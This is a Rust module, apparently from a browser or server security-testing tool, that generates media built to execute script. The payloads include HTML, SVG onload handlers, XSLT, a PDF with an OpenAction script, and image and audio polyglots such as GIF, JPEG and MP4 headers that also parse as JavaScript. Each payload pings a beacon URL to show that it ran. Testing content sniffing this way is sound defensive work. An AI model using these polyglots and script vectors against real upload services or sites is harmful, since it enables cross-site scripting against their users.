//! Media that a browser could execute or apply to a page, and that requests a URL when that happens.

/// Makes media that requests a URL when it is executed.
pub type Payload = fn(beacon: &str) -> Vec<u8>;

/// A script for documents, workers and shared workers. It also sends a message to the page that started it.
fn source(beacon: &str) -> String {
    format!(
        "globalThis.ran=1;try{{const r=new XMLHttpRequest;r.open('GET','{beacon}',!1);r.send()}}catch{{}};\
         globalThis.document||globalThis.postMessage?.(1);globalThis.onconnect=e=>e.ports[0].postMessage(1);"
    )
}

pub fn script(beacon: &str) -> Vec<u8> {
    source(beacon).into()
}

/// JSON with padding: a call to a function that the page defines.
pub fn jsonp(_: &str) -> Vec<u8> {
    b"callback({\"a\":1})".to_vec()
}

pub fn html(beacon: &str) -> Vec<u8> {
    format!("<!doctype html><title>x</title><body><script>{}</script>", source(beacon)).into()
}

pub fn xhtml(beacon: &str) -> Vec<u8> {
    let script = source(beacon);
    format!("<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><body><script>{script}</script></body></html>")
        .into()
}

/// A feed that contains an XHTML element.
pub fn feed(beacon: &str) -> Vec<u8> {
    let script = format!("<script xmlns=\"http://www.w3.org/1999/xhtml\">{}</script>", source(beacon));
    format!("<?xml version=\"1.0\"?><feed xmlns=\"http://www.w3.org/2005/Atom\"><title>x</title>{script}</feed>").into()
}

pub fn svg(beacon: &str) -> Vec<u8> {
    let script = source(beacon);
    format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"20\" height=\"10\" onload=\"{script}\"><script>{script}</script>\
         <rect id=\"x\" width=\"20\" height=\"10\" onload=\"{script}\"/></svg>"
    )
    .into()
}

/// An XML document that is its own style sheet, which transforms it into a page with a script.
pub fn xslt(beacon: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\"?><xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">\
         <xsl:output method=\"html\"/><xsl:template match=\"/\"><html><body><script>{}</script></body></html></xsl:template>\
         </xsl:stylesheet>",
        source(beacon)
    )
    .into()
}

/// A style sheet. It has been applied if the page's body has this colour.
pub fn css(_: &str) -> Vec<u8> {
    b"body{color:rgb(1,2,3)}".to_vec()
}

/// A style sheet that begins like a GIF file.
pub fn gif_css(_: &str) -> Vec<u8> {
    b"GIF89a{}body{color:rgb(1,2,3)}".to_vec()
}

/// An empty WebAssembly module.
pub fn wasm(_: &str) -> Vec<u8> {
    b"\0asm\x01\0\0\0".to_vec()
}

/// Speculation rules that make a page prefetch the URL.
pub fn speculation_rules(beacon: &str) -> Vec<u8> {
    format!("{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"{beacon}\"],\"eagerness\":\"immediate\"}}]}}").into()
}

/// Subtitles that contain markup.
pub fn vtt(beacon: &str) -> Vec<u8> {
    format!("WEBVTT\n\n00:00.000 --> 00:10.000\n<script>{}</script><img src=x onerror=\"ran=1\">\n", source(beacon)).into()
}

/// A PDF that runs a script when it is opened.
pub fn pdf(beacon: &str) -> Vec<u8> {
    format!(
        "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('{beacon}'\\))>>>>endobj\n\
         2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n\
         trailer<</Root 1 0 R>>\n%%EOF\n"
    )
    .into()
}

/// A web archive of a page.
pub fn mhtml(beacon: &str) -> Vec<u8> {
    let page = String::from_utf8(html(beacon)).unwrap();
    format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"x\"; type=\"text/html\"\r\n\r\n--x\r\nContent-Type: text/html\r\n\
         Content-Location: http://x.invalid/\r\n\r\n{page}\r\n--x--\r\n"
    )
    .into()
}

/// A stream of documents, each of which replaces the one before it.
pub fn replaced(beacon: &str) -> Vec<u8> {
    let page = String::from_utf8(html(beacon)).unwrap();
    format!("--x\r\nContent-Type: text/html\r\n\r\n{page}\r\n--x--\r\n").into()
}

/// Bytes that are the start of a media file and, read as Latin-1, an assignment in a script.
fn polyglot(signature: &[u8], beacon: &str) -> Vec<u8> {
    [signature, b"=1;", source(beacon).as_bytes(), b"//"].concat()
}

pub fn gif_script(beacon: &str) -> Vec<u8> {
    polyglot(b"GIF89a", beacon)
}

/// The first segment begins with a length that, in a script, starts a comment.
pub fn jpeg_script(beacon: &str) -> Vec<u8> {
    polyglot(b"\xff\xd8\xff\xe0/*\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0*/", beacon)
}

pub fn bmp_script(beacon: &str) -> Vec<u8> {
    polyglot(b"BM/*\0\0\0\0\0\0\0\x36\0\0\0*/", beacon)
}

pub fn wav_script(beacon: &str) -> Vec<u8> {
    polyglot(b"RIFF/*\0\0WAVEfmt *\0*/", beacon)
}

pub fn webp_script(beacon: &str) -> Vec<u8> {
    polyglot(b"RIFF/*\0\0WEBPVP8 *\0*/", beacon)
}

pub fn ogg_script(beacon: &str) -> Vec<u8> {
    polyglot(b"OggS", beacon)
}

pub fn flac_script(beacon: &str) -> Vec<u8> {
    polyglot(b"fLaC", beacon)
}

pub fn mp3_script(beacon: &str) -> Vec<u8> {
    polyglot(b"ID3", beacon)
}

/// The first box begins with a length that, in a script, starts a comment.
pub fn mp4_script(beacon: &str) -> Vec<u8> {
    polyglot(b"/*\x20\x20ftypisom\0\0\0\0isom*/x", beacon)
}
